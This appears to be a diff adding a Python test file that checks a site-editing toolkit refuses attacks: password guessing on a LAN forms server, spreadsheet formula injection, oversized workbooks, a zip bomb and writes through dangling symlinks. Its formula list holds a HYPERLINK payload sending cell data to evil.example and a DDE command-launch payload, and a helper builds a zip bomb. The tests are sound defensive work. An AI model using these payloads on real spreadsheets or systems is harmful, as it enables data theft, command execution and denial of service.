@@ -1,0 +1,274 @@
+"""Attacks on the editing tools that need no browser (issue 24): password guessing against the LAN
+forms server, formulas carried out in workbooks, oversized workbooks and a zip bomb, a dry run
+through a dangling symlink, a progressive 196-megapixel JPEG. Each asserts the refusal and that
+nothing was written. The browser-driven attacks on the preview are in tests/browser/test_attacks.py;
+the direct request to the file-writing process in tests/test_forms_config.py."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import http.client
+import json
+import logging
+import os
+import re
+import shutil
+import subprocess
+import sys
+import threading
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from campaignkit.editing import forms as admin
+from campaignkit.editing import lan_forms_server as formserver
+from tests.conftest import PROJECT, SAMPLE_CONTENT
+
+
+def snapshot(folder: Path) -> dict[str, str]:
+    return {
+        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "dir"
+        for p in sorted(folder.rglob("*"))
+    }
+
+
+# --------------------------------------------------------------------------- the LAN forms server
+
+
+def _get(port: int, path: str, password: str | None) -> int:
+    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
+    try:
+        headers = {}
+        if password is not None:
+            headers["Authorization"] = "Basic " + base64.b64encode(f"editor:{password}".encode()).decode()
+        conn.request("GET", path, headers=headers)
+        reply = conn.getresponse()
+        reply.read()
+        return reply.status
+    finally:
+        conn.close()
+
+
+@pytest.mark.slow
+def test_guessing_the_lan_password_is_slowed_then_locked_out_and_logged(tmp_path, monkeypatch, caplog):
+    monkeypatch.setenv(admin.PASSWORD_VARIABLE, "the right password")
+    content = tmp_path / "content"
+    shutil.copytree(SAMPLE_CONTENT, content)
+    (tmp_path / "site").mkdir()
+    (tmp_path / "site/index.html").write_text("<p>首页</p>", encoding="utf-8")
+    server = formserver.FormServer(admin.AdminRoutes(content), tmp_path / "site", "127.0.0.1", 0)
+    server.start_in_thread()
+    port = server.httpd.server_address[1]
+    statuses: list[int] = []
+    start = time.monotonic()
+    try:
+        assert _get(port, "/", "the right password") == 200
+
+        def guess(n: int) -> None:
+            statuses.append(_get(port, "/admin/config.yml", f"guess-{n}"))
+
+        with caplog.at_level(logging.WARNING, logger="campaignkit.forms"):
+            threads = [threading.Thread(target=guess, args=(n,)) for n in range(200)]
+            for t in threads:
+                t.start()
+            for t in threads:
+                t.join()
+            took = time.monotonic() - start
+            locked_out = _get(port, "/", "the right password")  # the right one, from the same address
+    finally:
+        server.shutdown()
+    assert statuses.count(401) <= formserver.LOCK_AFTER + 8  # a few in flight when the lock fell
+    assert statuses.count(429) >= 200 - formserver.LOCK_AFTER - 8 and set(statuses) <= {401, 429}
+    assert locked_out == 429  # locked out: the attacker cannot keep trying
+    assert took > 1.0  # wrong passwords were answered slowly (500 took 0.33 s before)
+    messages = [r.getMessage() for r in caplog.records]
+    assert any("密码错误" in m and "127.0.0.1" in m for m in messages)
+    assert any("已锁定 15 分钟" in m for m in messages)
+
+
+def test_the_lan_mode_says_the_password_travels_unencrypted():
+    text = formserver.PLAIN_HTTP_WARNING
+    assert "明文" in text and "ssh -L" in text and "HTTPS" in text and "nginx" in text
+
+
+# --------------------------------------------------------------------------- workbooks
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&B3,"点这里")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+
+
+def _cell_xml(path: Path) -> str:
+    with zipfile.ZipFile(path) as z:
+        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
+
+
+def test_no_exported_or_template_cell_is_a_formula_whatever_the_content_says(tmp_path):
+    from openpyxl import load_workbook
+
+    from campaignkit.editing import workbook_io as sheets
+
+    content = tmp_path / "content"
+    shutil.copytree(SAMPLE_CONTENT, content)
+    for n, path in enumerate(sorted((content / "enterprises").glob("*.yml"))[:4]):
+        text = path.read_text(encoding="utf-8")
+        name = next(line for line in text.splitlines() if line.startswith("name:"))
+        path.write_text(text.replace(name, "name: " + json.dumps(FORMULAS[n], ensure_ascii=False)), encoding="utf-8")
+    before = snapshot(content)
+    for book in sheets.BOOKS.values():
+        for kind, wb in (("export", sheets.export(book, content)), ("template", sheets.template(book, content))):
+            out = tmp_path / f"{kind}-{book.title}.xlsx"
+            sheets.save(wb, out)
+            xml = _cell_xml(out)
+            assert "<f>" not in xml and "<f " not in xml, (kind, book.title)  # no formula in any sheet, hidden 可选值 included
+            cells = [c for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
+            assert not [c for c in cells if c.data_type == "f"]
+            if (kind, book.title) in (("export", "花名册"), ("export", "隐患台账"), ("template", "隐患台账")):  # the names
+                values = {c.value for c in cells}
+                assert set(FORMULAS) <= values, (kind, book.title)
+    assert snapshot(content) == before
+
+
+def _import_measured(workbook: Path, content: Path) -> tuple[int, float, float, str]:
+    """`build.py import` in a fresh process: (exit status, seconds, peak MB, what it printed)."""
+    code = (
+        "import resource, sys\n"
+        "from campaignkit.commandline.main import main\n"
+        "status = main(sys.argv[1:])\n"
+        "sys.stderr.write('\\nPEAK_KB %d\\n' % resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)\n"
+        "sys.exit(status)\n"
+    )
+    start = time.monotonic()
+    done = subprocess.run(
+        [sys.executable, "-c", code, "import", str(workbook), "--content", str(content)],
+        cwd=content.parent,
+        env={**os.environ, "PYTHONPATH": str(PROJECT)},
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    took = time.monotonic() - start
+    peak = int(done.stderr.rsplit("PEAK_KB ", 1)[1].split()[0]) / 1024
+    return done.returncode, took, peak, done.stdout + done.stderr
+
+
+def _register(tmp_path: Path, content: Path):
+    from campaignkit.editing import workbook_io as sheets
+
+    return sheets.template(sheets.BOOKS["花名册"], content), sheets.BOOKS["花名册"].sheet
+
+
+def _one_far_cell(tmp_path: Path, content: Path, ref: str, drop_dimension: bool) -> Path:
+    wb, sheet = _register(tmp_path, content)
+    wb[sheet][ref] = "x"
+    path = tmp_path / f"far-{ref}.xlsx"
+    wb.save(path)
+    if drop_dimension:  # the streaming check, not the declared size, must find it
+        _rewrite(path, lambda name, data: re.sub(rb"<dimension [^>]*/>", b"", data) if "worksheets" in name else data)
+    return path
+
+
+def _rewrite(path: Path, change) -> None:
+    with zipfile.ZipFile(path) as z:
+        parts = [(i, change(i.filename, z.read(i))) for i in z.infolist()]
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        for info, data in parts:
+            z.writestr(info.filename, data)
+
+
+def _many_rows(tmp_path: Path, content: Path) -> Path:
+    wb, sheet = _register(tmp_path, content)
+    ws = wb[sheet]
+    for n in range(2, 20_002):
+        ws.cell(n, 1, f"qiye-{n}")
+        ws.cell(n, 2, f"示例企业{n}有限公司")
+    path = tmp_path / "rows.xlsx"
+    wb.save(path)
+    return path
+
+
+def _zip_bomb(tmp_path: Path, content: Path) -> Path:
+    """A register whose worksheet inflates to 400 MB (spaces between two cells): 400 KB on disk."""
+    wb, _ = _register(tmp_path, content)
+    path = tmp_path / "bomb.xlsx"
+    wb.save(path)
+    with zipfile.ZipFile(path) as z:
+        parts = [(i.filename, z.read(i)) for i in z.infolist()]
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
+        for name, data in parts:
+            if name == "xl/worksheets/sheet2.xml":
+                head, tail = data.split(b"<sheetData>", 1)
+                with z.open(name, "w", force_zip64=True) as out:
+                    out.write(head + b"<sheetData>")
+                    for _ in range(400):
+                        out.write(b" " * 1_000_000)
+                    out.write(tail)
+            else:
+                z.writestr(name, data)
+    assert path.stat().st_size < 1_000_000
+    return path
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    "make, limit",
+    [
+        (lambda t, c: _one_far_cell(t, c, "A1048576", drop_dimension=False), "最多 5000 行"),
+        (lambda t, c: _one_far_cell(t, c, "A1048576", drop_dimension=True), "最多 5000 行"),
+        (lambda t, c: _one_far_cell(t, c, "XFD1048576", drop_dimension=False), "最多"),
+        (_many_rows, "最多 5000 行"),
+        (_zip_bomb, "最多 50 MB"),
+    ],
+    ids=["A1048576", "A1048576-undeclared", "XFD1048576", "20000-rows", "zip-bomb"],
+)
+def test_an_oversized_workbook_is_refused_quickly_and_cheaply(tmp_path, make, limit):
+    content = tmp_path / "content"
+    shutil.copytree(SAMPLE_CONTENT, content)
+    workbook = make(tmp_path, content)
+    before = snapshot(content)
+    status, took, peak, said = _import_measured(workbook, content)
+    assert status == 1 and limit in said and "Traceback" not in said, said
+    assert took < 10, took
+    assert peak < 300, peak
+    assert snapshot(content) == before
+
+
+@pytest.mark.slow
+def test_a_dry_run_never_writes_through_a_dangling_link(tmp_path):
+    """content/cases/<new id>.yml and a photo's place are links to a file outside that does not exist
+    yet: neither the dry run nor --apply writes there."""
+    from campaignkit.editing import workbook_io as sheets
+
+    content = tmp_path / "content"
+    shutil.copytree(SAMPLE_CONTENT, content)
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (content / "cases/xin-anli.yml").symlink_to(outside / "planted.yml")
+    (content / "media/cases/xin-before.jpg").symlink_to(outside / "planted.jpg")
+    camera = tmp_path / "camera"
+    camera.mkdir()
+    shutil.copyfile(next((SAMPLE_CONTENT / "media/cases").glob("*.jpg")), camera / "xin-before.jpg")
+    wb = sheets.template(sheets.BOOKS["隐患台账"], content)
+    ws = wb[sheets.BOOKS["隐患台账"].sheet]
+    header = [c.value for c in ws[1]]
+    row = {
+        "编号": "xin-anli",
+        "标题": "楼道里给电动车充电",
+        "发现日期": "2024-03-05",
+        "公开显示的地点": "共建区某企业",
+        "隐患类型": "飞线充电",
+        "风险等级": "风险高",
+        "整改状态": "已发现",
+        "整改前照片": "xin-before.jpg",
+        "整改前照片说明": "楼道里的电动车",
+    }
+    for key, value in row.items():
+        ws.cell(2, header.index(key) + 1, value)
+    book = tmp_path / "台账.xlsx"
+    sheets.save(wb, book)
+    before = snapshot(content)
+    result = sheets.import_book(book, content, camera)
+    assert list(outside.iterdir()) == []  # nothing written out of content/
+    assert result.problems and any(sheets.LINKED in p for p in result.problems), result.problems
+    assert snapshot(content) == before
